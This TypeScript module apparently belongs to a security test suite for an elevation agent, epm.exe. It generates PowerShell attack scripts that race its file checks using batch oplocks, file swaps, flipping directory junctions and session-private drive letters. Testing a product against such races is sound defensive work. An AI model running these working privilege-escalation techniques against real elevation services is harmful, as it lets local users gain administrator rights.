/** What an attacker does with Windows itself, as PowerShell text that runs as that user. */

/** Defines `[Attack]`: oplocks, and drive letters of the own logon session. */
const ATTACK = `
Add-Type -TypeDefinition @'
using System;
using System.ComponentModel;
using System.Runtime.InteropServices;
using Microsoft.Win32.SafeHandles;
public static class Attack {
  [DllImport("kernel32", SetLastError = true, CharSet = CharSet.Unicode)]
  static extern SafeFileHandle CreateFileW(string name, uint access, uint share, IntPtr security, uint disposition, uint flags, IntPtr template);
  [DllImport("kernel32", SetLastError = true)]
  static extern bool DeviceIoControl(SafeFileHandle file, uint code, IntPtr input, uint inputLength, IntPtr output, uint outputLength, IntPtr returned, IntPtr overlapped);
  [DllImport("kernel32", SetLastError = true, CharSet = CharSet.Unicode)]
  static extern bool DefineDosDeviceW(uint flags, string name, string target);
  // A batch oplock (FSCTL_REQUEST_BATCH_OPLOCK): whoever opens the file waits until the handle is closed.
  public static SafeFileHandle Oplock(string path) {
    SafeFileHandle file = CreateFileW(path, 0x80000000, 7, IntPtr.Zero, 3, 0x40000000, IntPtr.Zero);
    if (file.IsInvalid) throw new Win32Exception();
    IntPtr pending = Marshal.AllocHGlobal(32);
    for (int at = 0; at < 32; at += 8) Marshal.WriteInt64(pending, at, 0);
    bool done = DeviceIoControl(file, 0x90008, IntPtr.Zero, 0, IntPtr.Zero, 0, IntPtr.Zero, pending);
    int error = Marshal.GetLastWin32Error();
    if (done || error != 997) throw new Win32Exception(error);
    return file;
  }
  // DDD_RAW_TARGET_PATH | DDD_NO_BROADCAST_SYSTEM, and DDD_REMOVE_DEFINITION | DDD_EXACT_MATCH_ON_REMOVE to take it away.
  public static void Drive(string name, string target, bool there) {
    if (!DefineDosDeviceW(there ? 9u : 15u, name, target)) throw new Win32Exception();
  }
}
'@
$ErrorActionPreference = 'Stop'
`;

const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;

export interface Attack {
  /** epm.exe. */
  readonly epm: string;
  /** A file with the request, which the user may read. */
  readonly bodyFile: string;
  /** What stands before the request, around it and behind it; `$path` is the file that is asked for. */
  readonly path: string;
}

/** Asks while an oplock of the user is on the file. Writes the answer, a line each. */
export function askUnderOplock({ epm, bodyFile, path }: Attack): string {
  return `${ATTACK}
$file = [Attack]::Oplock(${quoted(path)})
try { & ${quoted(epm)} request elevate --body-file ${quoted(bodyFile)} } finally { $file.Dispose() }
exit 0`;
}

/**
 * Asks again and again with an oplock on the file; as soon as the agent meets it, another file is put in the place.
 * @param other what is put there
 */
export function swapUnderOplock({ epm, bodyFile, path }: Attack, other: string, times: number): string {
  return `${ATTACK}
$path = ${quoted(path)}
Copy-Item -LiteralPath $path -Destination "$path.good"
foreach ($time in 1..${times}) {
  $file = [Attack]::Oplock($path)
  $asked = Start-Process -FilePath ${quoted(epm)} -ArgumentList 'request', 'elevate', '--body-file', ${quoted(bodyFile)} -PassThru -NoNewWindow -RedirectStandardOutput "$path.answer"
  try {
    Move-Item -LiteralPath $path -Destination "$path.away" -Force
    Copy-Item -LiteralPath ${quoted(other)} -Destination $path
  } catch { }
  $file.Dispose()
  $asked.WaitForExit()
  Get-Content -LiteralPath "$path.answer"
  Copy-Item -LiteralPath "$path.good" -Destination $path -Force
}
exit 0`;
}

/** Asks for a file behind a junction that leads to one folder and then to another, while the agent looks. */
export function swapJunction(
  { epm, bodyFile }: Attack,
  link: string,
  folders: readonly string[],
  times: number,
): string {
  return `${ATTACK}
$link = ${quoted(link)}
$answer = "$link.answer"
foreach ($time in 1..${times}) {
  cmd.exe /d /c mklink /J $link ${quoted(folders[0] ?? '')} | Out-Null
  if ($LASTEXITCODE -ne 0) { throw 'no junction' }
  $asked = Start-Process -FilePath ${quoted(epm)} -ArgumentList 'request', 'elevate', '--body-file', ${quoted(bodyFile)} -PassThru -NoNewWindow -RedirectStandardOutput $answer
  try {
    cmd.exe /d /c rmdir $link
    cmd.exe /d /c mklink /J $link ${quoted(folders[1] ?? '')} | Out-Null
  } catch { }
  $asked.WaitForExit()
  Get-Content -LiteralPath $answer
  cmd.exe /d /c rmdir $link
}
exit 0`;
}

/** Asks for a file on a drive letter that exists in the logon session of the user only. */
export function askOnOwnDrive({ epm, bodyFile }: Attack, letter: string, folder: string): string {
  return `${ATTACK}
[Attack]::Drive('${letter}:', ${quoted(`\\??\\${folder}`)}, $true)
try {
  "seen: $(Test-Path -LiteralPath '${letter}:\\probe.exe')"
  & ${quoted(epm)} request elevate --body-file ${quoted(bodyFile)}
} finally { [Attack]::Drive('${letter}:', ${quoted(`\\??\\${folder}`)}, $false) }
exit 0`;
}
